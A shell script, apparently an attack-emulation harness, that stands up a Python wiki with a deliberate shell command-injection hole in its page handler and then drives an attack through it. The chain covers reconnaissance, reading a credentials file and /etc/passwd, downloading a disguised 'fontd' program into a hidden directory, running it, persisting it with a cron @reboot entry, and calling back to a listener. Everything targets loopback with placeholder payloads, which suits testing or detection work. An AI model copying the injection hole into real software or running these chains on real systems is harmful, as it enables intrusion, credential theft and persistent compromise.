# A wiki in Python, run by www-data on port 8090 of loopback, and what a stranger does through it.
prepare() {
    mkdir -p /srv/wiki /var/spool/cron/crontabs /home/far
    cat >/srv/wiki/app.py <<'P'
import http.server, subprocess, urllib.parse
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_GET(self):
        name = urllib.parse.unquote(self.path[7:])
        out = subprocess.run("cat /srv/wiki/pages/" + name, shell=True, capture_output=True).stdout
        self.send_response(200); self.end_headers(); self.wfile.write(out)
http.server.ThreadingHTTPServer(("127.0.0.1", 8090), H).serve_forever()
P
    printf '[db]\nuser = wiki\npassword = not-a-real-one\n' >/srv/wiki/settings.ini
    printf '#!/bin/sh\nexec sleep 3\n' >/home/far/fontd
    (cd /home/far && exec python3 -m http.server 8099 --bind 127.0.0.1) >/dev/null 2>&1 9>&- &
    listener 9443
    chown -R www-data /srv/wiki
}
page() { perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("127.0.0.1:8090") or die; my $q = $ARGV[0]; $q =~ s/([^A-Za-z0-9])/sprintf "%%%02X", ord $1/ge; print $s "GET /page/$q HTTP/1.0\r\n\r\n"; 1 while <$s>' "$1"; }
open_wiki() { setpriv --reuid=www-data --clear-groups python3 /srv/wiki/app.py & sleep 1.5; page start; }
try_it() { page 'x; id; uname -a; cat /etc/os-release'; }
read_settings() { page 'x; cat /srv/wiki/settings.ini; ls -la /home; cat /etc/passwd'; }
bring_program() { page 'x; mkdir -p /var/tmp/.fonts; curl -s -o /var/tmp/.fonts/fontd http://127.0.0.1:8099/fontd; chmod 755 /var/tmp/.fonts/fontd'; }
run_it() { page 'x; setsid /var/tmp/.fonts/fontd >/dev/null 2>&1 &'; }
stay() { page 'x; echo "@reboot /var/tmp/.fonts/fontd" >/tmp/t'; cp /tmp/t /var/spool/cron/crontabs/www-data; }
talk_home() { page "x; python3 -c 'import socket; s=socket.create_connection((\"127.0.0.1\",9443)); s.send(b\"hello\")'"; }
